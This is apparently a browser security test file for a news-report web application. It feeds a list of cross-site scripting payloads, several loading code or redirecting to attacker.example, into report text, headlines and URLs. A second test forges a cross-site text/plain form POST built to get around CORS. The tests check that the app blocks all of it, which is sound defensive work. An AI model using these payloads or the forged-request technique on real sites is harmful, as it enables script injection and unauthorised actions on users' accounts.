import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { caseOf } from '../casefile/judged-case.ts'
import { CHROMIUM, closeBrowser, openBrowser, shown } from './browser.ts'

/** What runs in a page that takes words for markup; each sets window.ran or asks another machine. */
const PAYLOADS = [
  '<script>window.ran=1</script>',
  '<img src=x onerror=window.ran=1>',
  '<img src="https://attacker.example/pixel.png">',
  '<svg/onload=window.ran=1>',
  '"><script src="https://attacker.example/x.js"></script>',
  '</script><script>window.ran=1</script>',
  '</title><script>window.ran=1</script>',
  '</textarea><img src=x onerror=window.ran=1>',
  '<iframe src="javascript:parent.ran=1"></iframe>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<a href="javascript:window.ran=1">here</a>',
  '<body onload=window.ran=1>',
  '<details open ontoggle=window.ran=1>',
  '<video><source onerror=window.ran=1></video>',
  '<math><mtext><style><img src=x onerror=window.ran=1></style></mtext></math>',
  '<form action="https://attacker.example"><button>x</button></form>',
  '<base href="https://attacker.example/">',
  '<meta http-equiv=refresh content="0;url=https://attacker.example">',
  '<link rel=stylesheet href="https://attacker.example/x.css">',
  '<style>@import url(https://attacker.example/x.css);</style>',
  '{{constructor.constructor("window.ran=1")()}}',
  `\${window.ran=1}`,
  '" autofocus onfocus="window.ran=1',
  "' onmouseover='window.ran=1",
  '<!--><script>window.ran=1</script>-->',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '\u202e<script>window.ran=1</script>',
] as const

describe.skipIf(CHROMIUM === undefined)('attacks', { timeout: 180_000 }, () => {
  beforeAll(openBrowser, 120_000)
  afterAll(closeBrowser)

  /** A third of them at a time, so that few pages show all. */
  const GROUPS = [0, 1, 2].map((group) => PAYLOADS.filter((_, at) => at % 3 === group))

  test('nothing that stands in a report runs, and nothing leaves', async () => {
    const reports = GROUPS.map((attacks) => {
      const sentences = attacks.map((attack) => `Norland has sent 40 tanks ${attack} to Sudland, ${attack} said.`)
      const all = attacks.join(' ')
      return [sentences.join('\n\n'), { headline: all, outlet: all, url: `javascript:window.ran=1//${all}` }] as const
    })
    const { on } = await caseOf(...reports)
    await on.settle()
    const page = await shown(on)
    const ids = (await on.reports(100, 0)).reports.map(({ id }) => `/report/${id}`)
    const named = GROUPS.flatMap((attacks) => {
      const words = encodeURIComponent(attacks.join(' '))
      return [`/search?q=${words}`, `/party/${words}`]
    })
    const views = [
      '/timeline',
      '/reports',
      '/search?q=tanks',
      '/exchange?a=Norland&b=Sudland',
      '/party/Norland',
      '/review',
    ]
    for (const view of [...views, '/events', ...ids, ...named]) {
      await page.goto(view)
      await page.locator('main').waitFor()
      await page.waitForLoadState('networkidle')
      expect([view, await page.evaluate('window.ran')]).toEqual([view, undefined])
      expect([view, new URL(page.url()).hostname]).toEqual([view, '127.0.0.1'])
      const links = await page.locator('a').evaluateAll((all) => all.map((each) => each.getAttribute('href') ?? ''))
      expect(links.filter((href) => /^\s*(?:javascript|data|vbscript):/i.test(href))).toEqual([])
    }
  })

  test('the form of another site changes nothing', async () => {
    const { on } = await caseOf('Norland has sent 40 tanks to Sudland, according to two diplomats.')
    await on.settle()
    const { told } = await on.timeline({}, 1)
    const page = await shown(on)
    await page.goto('/timeline')
    const target = `${new URL(page.url()).origin}/api/v1/judgements`
    await page.goto('about:blank')
    // A form whose one field makes its text JSON: the way around CORS.
    const [before, after] = JSON.stringify({ act: 'reject', id: told[0]!.claim.id, why: '=' }).split('=')
    await page.evaluate(`(() => {
      const form = document.createElement('form')
      Object.assign(form, { method: 'post', action: ${JSON.stringify(target)}, enctype: 'text/plain' })
      const field = document.createElement('input')
      Object.assign(field, { name: ${JSON.stringify(before)}, value: ${JSON.stringify(after)} })
      form.append(field)
      document.body.append(form)
      form.submit()
    })()`)
    await page.waitForURL(target)
    expect(await page.textContent('body')).toContain('request/refused')
    expect(await on.judgements()).toEqual([])
  })
})
